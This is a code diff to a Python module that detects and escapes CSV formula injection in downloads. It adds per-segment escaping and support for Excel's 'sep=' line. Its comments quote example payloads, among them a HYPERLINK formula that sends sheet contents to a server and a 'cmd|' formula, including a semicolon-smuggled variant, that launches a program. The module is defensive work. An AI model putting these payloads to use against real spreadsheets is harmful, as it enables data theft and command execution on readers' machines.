@@ -4,8 +4,10 @@ A reader opens a ``.csv`` download in a spreadsheet, which runs a cell that star
 with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) as a formula:
 ``=HYPERLINK("https://…?"&A1)`` sends the sheet's contents to a server, and
 ``=cmd|' /C calc'!A0`` asks to start a program (OWASP: CSV injection). The book's own
-exports escape such a cell with a ``'`` (:func:`..records.export.safe_cell`); a download
-is published byte for byte, so one holding such a cell is refused, naming its row.
+exports escape such a cell, and every stretch of it a spreadsheet could split off, with a
+``'`` (:func:`defused`); a download
+is published byte for byte, so one holding such a cell is refused, naming its row. A
+first line ``sep=|`` makes Excel split at that character, so the check splits there too.
 A plain signed number ("-5", "+1.5%") is data, not a formula. Three passes of Python's
 ``csv`` reader (one per way a spreadsheet splits cells), linear in the file's size.
 """
@@ -31,6 +33,26 @@ def runs_as_formula(cell: str) -> bool:
     return text.startswith(FORMULA_STARTS) and not _SIGNED_NUMBER.fullmatch(text.strip())
 
 
+#: A stretch of one cell's text that a spreadsheet may read as a cell of its own: it splits
+#: at commas, semicolons or tabs, as its language sets.
+_PIECE = re.compile(r"[^,;\t]+")
+
+
+def defused(text: str) -> str:
+    """``text`` as a cell no spreadsheet runs: each stretch it could split off as a cell (at a
+    comma, semicolon or tab) that would run as a formula gets a ``'`` before its first
+    letter. Escaping only the cell's start let ``Then-head;=cmd|' /C calc'!A0`` through to a
+    spreadsheet that splits at semicolons (red team J). Linear in the text."""
+    return _PIECE.sub(lambda piece: _escaped(piece[0]), text)
+
+
+def _escaped(piece: str) -> str:
+    if not runs_as_formula(piece):
+        return piece
+    letters = piece.lstrip(" \t\r\n\ufeff")
+    return piece[: len(piece) - len(letters)] + "'" + letters
+
+
 def csv_problem(data: bytes) -> str | None:
     """Why ``data`` may not be published as a CSV download ("line 3 holds a cell …"), or None.
 
@@ -43,7 +65,7 @@ def csv_problem(data: bytes) -> str | None:
         text = data.decode("utf-8-sig")
     except UnicodeDecodeError as error:
         return f"it is not UTF-8 text (byte {error.start}); save it as UTF-8"
-    for delimiter in _DELIMITERS:
+    for delimiter in _delimiters(text):
         problem = _formula(text, delimiter)
         if problem:
             return problem
@@ -53,6 +75,15 @@ def csv_problem(data: bytes) -> str | None:
 #: How spreadsheets split a line into cells: commas, and semicolons or tabs where a comma
 #: is the decimal mark.
 _DELIMITERS = (",", ";", "\t")
+#: A first line that tells a spreadsheet which character splits cells (``sep=|``).
+_SEP_LINE = re.compile(r'"?sep=(.)"?\r?(?:\n|$)')
+
+
+def _delimiters(text: str) -> tuple[str, ...]:
+    """The characters a spreadsheet may split ``text``'s lines at: the usual three, and the
+    one a first ``sep=`` line names, which Excel obeys (red team J split cells at ``|``)."""
+    named = _SEP_LINE.match(text)
+    return (*_DELIMITERS, named[1]) if named and named[1] not in _DELIMITERS else _DELIMITERS
 
 
 def _formula(text: str, delimiter: str) -> str | None:
